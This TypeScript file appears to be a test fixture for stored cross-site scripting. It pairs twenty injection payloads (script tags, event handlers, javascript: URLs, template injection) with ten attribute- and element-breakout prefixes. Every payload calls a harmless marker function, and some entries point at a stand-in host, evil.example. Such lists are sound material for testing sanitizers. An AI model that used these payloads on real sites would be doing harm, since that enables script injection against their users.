/** What a stored script would call if it ran. */
export const CALLED = 'storedScriptRan'

const CALL = `${CALLED}()`

/** Known ways to get stored text executed when a page shows it. */
const WAYS = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<img src=x onerror=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<body onload=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<math><mtext></p><img src=x onerror=${CALL}>`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><button>x</button></form>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<!--><img src=x onerror=${CALL}>-->`,
]

/** Prefixes that try to break out of an attribute, an element, a script or a comment. */
const BEFORE = ['', '"', "'", '">', "'>", '</textarea>', '</title>', '</script>', ']]>', '`-']

export const STORED_SCRIPTS: readonly string[] = WAYS.flatMap((way) => BEFORE.map((before) => before + way))
